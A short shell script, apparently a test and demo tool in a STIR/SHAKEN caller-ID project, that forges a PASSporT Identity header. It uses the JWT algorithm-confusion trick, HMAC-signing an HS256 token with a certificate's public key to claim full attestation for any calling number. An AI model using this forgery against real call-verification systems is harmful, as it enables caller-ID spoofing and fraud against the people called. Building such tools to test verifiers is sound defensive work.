#!/bin/sh
# An attacker's tool, for the demo and the tests: a token signed with HS256, keyed with the public key of a certificate. Prints an Identity value.
# Usage: tools/forge-hs256.sh CERT ORIG DEST [X5U]
set -eu
x5u=${4:-https://cr.example.com/709J.pem}
b64url() { openssl base64 -A | tr '+/' '-_' | tr -d '='; }
header=$(printf '{"alg":"HS256","ppt":"shaken","typ":"passport","x5u":"%s"}' "$x5u" | b64url)
payload=$(printf '{"attest":"A","dest":{"tn":["%s"]},"iat":%s,"orig":{"tn":"%s"},"origid":"123e4567-e89b-12d3-a456-426655440000"}' "$3" "$(date +%s)" "$2" | b64url)
key=$(openssl x509 -in "$1" -noout -pubkey | od -An -v -tx1 | tr -d ' \n')
signature=$(printf '%s.%s' "$header" "$payload" | openssl dgst -sha256 -mac HMAC -macopt "hexkey:$key" -binary | b64url)
printf '%s.%s.%s;info=<%s>;alg=HS256;ppt=shaken\n' "$header" "$payload" "$signature" "$x5u"
